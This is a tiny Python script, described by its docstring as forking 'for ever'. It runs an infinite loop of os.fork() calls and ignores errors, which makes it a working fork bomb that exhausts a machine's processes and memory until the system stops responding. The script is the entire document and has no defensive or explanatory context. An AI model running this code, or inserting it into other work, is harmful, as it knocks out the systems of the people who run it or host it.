"""Forks as often as it may, for ever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
